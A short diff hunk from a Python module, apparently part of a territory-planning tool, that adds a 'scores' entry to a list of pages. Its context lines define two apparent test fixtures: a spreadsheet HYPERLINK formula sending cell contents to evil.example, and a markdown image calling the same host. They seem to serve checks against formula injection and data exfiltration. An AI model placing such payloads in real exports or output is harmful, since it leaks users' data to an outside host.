@@ -22,7 +22,7 @@ from terr.view.text import markdown
 from terr.workspace import events, exports, imports, plans
 from terr.workspace.events import Seen
 
-PAGES = ("accounts", "plan", "scenarios", "reps", "reports", "settings")
+PAGES = ("accounts", "scores", "plan", "scenarios", "reps", "reports", "settings")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
 IMAGE = "![x](http://evil.example/x.png)"
 ADDRESSES = (
